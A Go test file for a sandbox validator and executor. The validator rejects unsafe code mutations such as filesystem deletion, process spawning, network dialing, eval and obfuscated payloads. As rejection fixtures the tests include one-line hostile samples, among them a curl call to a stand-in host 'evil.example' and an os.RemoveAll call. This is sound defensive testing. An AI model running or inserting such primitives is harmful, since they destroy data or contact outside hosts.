package sandbox

import (
	"context"
	"strings"
	"testing"
	"time"
)

func TestValidate_AcceptsBenignMutation(t *testing.T) {
	res := Validate(Mutation{Payload: []byte("func add(a, b int) int { return a + b }")})
	if !res.Safe {
		t.Errorf("expected benign mutation to pass, got reason=%q", res.Reason)
	}
}

func TestValidate_RejectsFilesystemPrimitive(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`os.RemoveAll("/tmp/data")`)})
	if res.Safe {
		t.Fatal("expected filesystem primitive to be rejected")
	}
}

func TestValidate_RejectsProcessSpawn(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`exec.Command("curl", "evil.example")`)})
	if res.Safe {
		t.Fatal("expected process-spawn primitive to be rejected")
	}
}

func TestValidate_RejectsNetworkPrimitive(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`net.Dial("tcp", "1.2.3.4:80")`)})
	if res.Safe {
		t.Fatal("expected network primitive to be rejected")
	}
}

func TestValidate_RejectsEval(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`eval("2+2")`)})
	if res.Safe {
		t.Fatal("expected eval to be rejected")
	}
}

func TestValidate_RejectsTermination(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`os.Exit(1)`)})
	if res.Safe {
		t.Fatal("expected termination primitive to be rejected")
	}
}

func TestValidate_RejectsPrototypePollution(t *testing.T) {
	res := Validate(Mutation{Payload: []byte(`obj.__proto__.polluted = true`)})
	if res.Safe {
		t.Fatal("expected prototype-pollution sentinel to be rejected")
	}
}

func TestValidate_RejectsHighEntropyPayload(t *testing.T) {
	// 64 distinct characters, each appearing exactly once: entropy is
	// exactly log2(64) = 6 bits/char, above the 5.5 ceiling.
	payload := "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	res := Validate(Mutation{Payload: []byte(payload)})
	if res.Safe {
		t.Fatal("expected high-entropy payload to be rejected as suspected obfuscation")
	}
}

func TestExecutor_FallsBackWhenIsolationBinaryMissing(t *testing.T) {
	ex := NewExecutor("definitely-not-a-real-binary-xyz", 0)
	if ex.IsolationAvailable() {
		t.Fatal("expected isolation to be unavailable for a nonexistent binary")
	}
}

func TestExecutor_RunsInProcessCommand(t *testing.T) {
	ex := NewExecutor("", 0)
	res := ex.Execute(context.Background(), Mutation{Command: []string{"echo", "hello"}}, time.Second)
	if !res.OK {
		t.Fatalf("expected success, got error=%q", res.Error)
	}
}

func TestExecutor_TimesOutOnSlowCommand(t *testing.T) {
	ex := NewExecutor("", 0)
	res := ex.Execute(context.Background(), Mutation{Command: []string{"sleep", "5"}}, 50*time.Millisecond)
	if res.OK {
		t.Fatal("expected timeout to produce ok=false")
	}
}

func TestExecutor_FailsOnEmptyCommand(t *testing.T) {
	ex := NewExecutor("", 0)
	res := ex.Execute(context.Background(), Mutation{}, time.Second)
	if res.OK {
		t.Fatal("expected empty command to be treated as a crash")
	}
}

func TestExecutor_NonzeroExitIsNotOK(t *testing.T) {
	ex := NewExecutor("", 0)
	res := ex.Execute(context.Background(), Mutation{Command: []string{"false"}}, time.Second)
	if res.OK {
		t.Fatal("expected nonzero exit to produce ok=false")
	}
}

func TestExecutor_CrashSurfacesStderrText(t *testing.T) {
	ex := NewExecutor("", 0)
	res := ex.Execute(context.Background(), Mutation{
		Command: []string{"sh", "-c", `echo "SyntaxError: Unexpected token }" 1>&2; exit 1`},
	}, time.Second)
	if res.OK {
		t.Fatal("expected nonzero exit to produce ok=false")
	}
	if !strings.Contains(res.Error, "SyntaxError") {
		t.Fatalf("Error = %q, want the crash's own stderr text, not a generic sentinel", res.Error)
	}
}
